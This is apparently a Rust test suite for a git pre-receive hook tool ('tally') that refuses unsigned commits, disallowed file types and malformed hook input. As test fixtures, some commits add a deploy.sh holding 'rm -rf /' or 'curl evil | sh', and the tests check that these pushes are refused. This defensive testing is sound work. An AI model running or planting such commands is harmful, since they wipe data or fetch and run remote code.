//! Refusals beyond one rule: several problems at once, configuration errors, hook input.

use super::*;
use crate::common::*;

#[test]
fn reports_every_bad_commit_of_a_push() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c1 = work
        .commit("1")
        .file("one.yaml", "a: 1\n")
        .unsigned()
        .create();
    let c2 = work.commit("2").file("deploy.sh", "echo\n").create();
    let ok = work.commit("3").file("three.yaml", "a: 3\n").create();
    let c4 = work
        .commit("4")
        .file("four.json", "{\n")
        .by(&mallory())
        .create();
    let tip = work.commit("5").file("five.yaml", "a: 5\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["push refused: 4 problems on refs/heads/main"]);
    let violations = push.violations();
    assert_eq!(violations.len(), 4, "{}", push.stderr);
    assert!(violations[0].contains(short(&c1)) && violations[0].contains("not signed"));
    assert!(violations[1].contains(short(&c2)) && violations[1].contains("deploy.sh"));
    let c4_lines: Vec<&String> = violations
        .iter()
        .filter(|l| l.contains(short(&c4)))
        .collect();
    assert_eq!(c4_lines.len(), 2, "{}", push.stderr);
    assert!(
        c4_lines
            .iter()
            .any(|l| l.contains(&keys().mallory.fingerprint))
    );
    assert!(c4_lines.iter().any(|l| l.contains("four.json: invalid")));
    // Good commits are named as no problem (a fix may name one as the commit to rebase onto).
    for v in &violations {
        let problem = &v[..v.find("; fix: ").unwrap()];
        assert!(!problem.contains(short(&ok)), "{}", push.stderr);
        assert!(!problem.contains(short(&tip)), "{}", push.stderr);
    }
}

#[test]
fn marks_refusal_lines_for_gitlab() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("a")
        .file("a.yaml", "a: 1\n")
        .unsigned()
        .create();
    let push = work.push_with_env(&["origin", "main"], &[("GL_USERNAME", "alice")]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let marked: Vec<&str> = push
        .stderr
        .lines()
        .filter(|l| l.starts_with("remote: GL-HOOK-ERR: tally: "))
        .collect();
    // The header, the problem, and its fix wrapped over lines: every one marked.
    assert!(marked.len() >= 3, "{}", push.stderr);
    assert!(
        !push
            .stderr
            .lines()
            .any(|l| l.starts_with("remote: tally: ")),
        "{}",
        push.stderr
    );
    assert!(marked[1].contains(short(&c)) && marked[1].contains("commit is not signed"));
    assert!(marked[2].starts_with("remote: GL-HOOK-ERR: tally:   fix: "));
    // git pads each line with spaces where the terminal would get an erase-to-end code.
    for line in marked {
        assert!(line.trim_end().len() <= 100, "{line}");
    }
}

/// Issue 13: thirty unsigned commits are one line, named as a git range, with one fix that
/// names the real commit to rebase onto; the file problem is a line of its own; every line
/// fits a terminal; the ledger still records every violation as a reason.
#[test]
fn groups_thirty_unsigned_commits_into_one_line_with_one_fix() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let script = work.commit("script").file("deploy.sh", "echo\n").create();
    let mut names = vec![
        (base.clone(), "base".to_owned()),
        (script.clone(), "script".to_owned()),
    ];
    for i in 1..=30 {
        let id = work
            .commit(&format!("u{i}"))
            .file(&format!("u{i}.yaml"), format!("u: {i}\n"))
            .unsigned()
            .create();
        names.push((id, format!("u{i}")));
    }
    let push = work.push(&["origin", "main"]);
    assert_eq!(push.code, 1, "{}", push.stderr);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let remote: Vec<&str> = push
        .stderr
        .lines()
        .filter(|l| l.starts_with("remote: "))
        .collect();
    // git pads each line with spaces where the terminal would get an erase-to-end code.
    let remote: Vec<&str> = remote.iter().map(|l| l.trim_end()).collect();
    for line in &remote {
        assert!(line.len() <= 100, "{} columns: {line}", line.len());
    }
    assert_eq!(push.violations().len(), 2, "{}", push.stderr);
    push.line_with(&["push refused: 31 problems on refs/heads/main, in 31 commits"]);
    push.line_with(&[
        &format!(
            "30 commits {}..{}: commit is not signed",
            short(&script),
            short(&names[31].0)
        ),
        &format!(
            "git rebase --exec 'git commit --amend --no-edit -S' {}",
            short(&script)
        ),
    ]);
    assert!(!push.stderr.contains("<base>"), "{}", push.stderr);

    let mut known: Vec<(String, String)> = Vec::new();
    for (id, name) in &names {
        known.push((id.clone(), format!("<{name}>")));
        known.push((short(id).to_owned(), format!("<{name}>")));
    }
    let known: Vec<(&str, &str)> = known
        .iter()
        .map(|(v, l)| (v.as_str(), l.as_str()))
        .collect();
    insta::assert_snapshot!(
        "push_refused_grouped",
        normalise(&remote.join("\n"), &known)
    );

    // The display groups; the ledger keeps the evidence: one reason per violation (as many as
    // an entry holds, then the count and a digest of the full list), never the grouped lines.
    let log = server.log(&["--kind", "rejected"]);
    assert_eq!(log.len(), 1);
    let reasons: Vec<&str> = log[0]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    let (last, each) = reasons.split_last().unwrap();
    assert!(last.starts_with("31 reasons in all"), "{reasons:?}");
    assert_eq!(
        each[0],
        format!(
            "{} deploy.sh: file type not allowed by the policy",
            short(&script)
        )
    );
    for (reason, (id, _)) in each[1..].iter().zip(&names[2..]) {
        assert_eq!(*reason, format!("{} commit is not signed", short(id)));
    }
    assert!(each.len() > 2, "{reasons:?}");
}

#[test]
fn refuses_push_when_the_policy_is_missing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::remove_file(server.policy_path()).unwrap();
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        "cannot read policy",
        "tally/policy.toml",
        "run `tally init`",
    ]);
}

#[test]
fn refuses_push_when_the_policy_is_invalid() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::write(
        server.policy_path(),
        "[branches]\nprotected = [\"main\"]\n[signatures]\nallowed_signers = 7\n",
    )
    .unwrap();
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["policy", "tally/policy.toml", "is invalid", "line 4"]);
}

#[test]
fn refuses_push_when_allowed_signers_is_missing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::remove_file(server.tally_dir().join("allowed_signers")).unwrap();
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["tally/allowed_signers"]);
}

#[test]
fn hook_refuses_malformed_input() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let zero = "0".repeat(40);
    let one = "1".repeat(40);
    for (input, line) in [
        ("garbage\n".to_owned(), 1),
        (
            format!("{zero} {one} refs/heads/main\n{one} xyz refs/heads/main\n"),
            2,
        ),
        (format!("{zero} {one} main\n"), 1),
    ] {
        let out = server.run_pre_receive(input.as_bytes());
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{input:?}: {stderr}");
        assert!(
            stderr.contains(&format!("malformed hook input line {line}")),
            "{input:?}: {stderr}"
        );
    }
}

#[test]
fn refuses_unsigned_push_when_the_repository_sets_core_hooks_path() {
    let env = TestEnv::new();
    let path = env.bare_repo("server");
    std::fs::create_dir(path.join("site-hooks")).unwrap();
    run_ok(
        env.git(&path)
            .args(["config", "core.hooksPath", "site-hooks"]),
    );
    let signers = env.write("allowed_signers", &alice_and_bob().text());
    let init = env.tally_init([
        path.as_os_str(),
        "--allowed-signers".as_ref(),
        signers.as_os_str(),
    ]);
    if init.status.code() == Some(2) {
        // Refusing to set up a repository whose hooks git would not run is fine too, if it
        // says why.
        let err = String::from_utf8_lossy(&init.stderr);
        assert!(err.contains("core.hooksPath"), "{err}");
        return;
    }
    assert_eq!(init.status.code(), Some(0));
    let server = env.server_at(path);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("unsigned")
        .file("deploy.sh", "rm -rf /\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
}

/// Issue 10, class 1: an atomic push with enough long ref names puts the protected ref past
/// the input cap. The hooks must refuse the whole input, never judge a prefix of it. Both
/// hooks get an input of many unprotected refs followed by a move of `main` that no rule
/// would let through (an unsigned executable; no verdict for `prepared`).
#[test]
fn hook_input_over_the_cap_is_refused_not_cut_short() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let bad = work
        .commit("smuggled")
        .file("deploy.sh", "curl evil | sh\n")
        .unsigned()
        .create();
    // Lines of exactly 4096 bytes fill the 64 MiB cap to the byte, so a reader that stopped
    // at the cap would see only whole lines of unprotected refs and pass them.
    let prefix = format!("{} {base} ", "0".repeat(40));
    let mut input = String::with_capacity(64 * 1024 * 1024 + 4096);
    for i in 0..(64 * 1024 * 1024 / 4096) {
        let name = format!("refs/heads/filler/{i:08}/");
        let pad = 4096 - prefix.len() - name.len() - 1;
        input.push_str(&prefix);
        input.push_str(&name);
        input.push_str(&"x".repeat(pad));
        input.push('\n');
    }
    assert_eq!(input.len(), 64 * 1024 * 1024);
    input.push_str(&format!("{base} {bad} refs/heads/main\n"));
    for (hook, out) in [
        ("pre-receive", server.run_pre_receive(input.as_bytes())),
        (
            "prepared",
            server.run_reference_transaction("prepared", input.as_bytes()),
        ),
    ] {
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{hook}: {stderr}");
        assert!(
            stderr.contains("hook input is longer than 67108864 bytes"),
            "{hook}: {stderr}"
        );
    }
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
}

/// Issue 10, class 6: a refused push by someone with no key, with hundreds of problems (90 KB of reasons), is
/// recorded (every refused push is), in one entry of a few KiB that counts the problems and
/// commits to the full list by its digest.
#[test]
fn a_refusal_with_hundreds_of_problems_is_recorded_in_a_few_kib() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let long = "d".repeat(200);
    let mut commit = work.commit("junk").unsigned();
    for i in 0..300 {
        commit = commit.file(&format!("{long}/{i:05}.sh"), "echo\n");
    }
    commit.create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let rejected = server.log(&["--kind", "rejected"]);
    assert_eq!(rejected.len(), 1, "{rejected:?}");
    let reasons = rejected[0]["reasons"].as_array().unwrap();
    assert!(reasons.len() <= 17, "{}", reasons.len());
    let last = reasons.last().unwrap().as_str().unwrap();
    assert!(
        last.starts_with("301 reasons in all, cut to fit the ledger; sha256 of the full list: "),
        "{last}"
    );
    let out = std::process::Command::new("sqlite3")
        .arg(server.tally_dir().join("ledger.sqlite"))
        .arg("SELECT max(length(bytes)) FROM entries")
        .output()
        .unwrap();
    let largest: usize = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    assert!(largest < 6 * 1024, "largest entry is {largest} bytes");
    server.assert_ledger_intact();
}
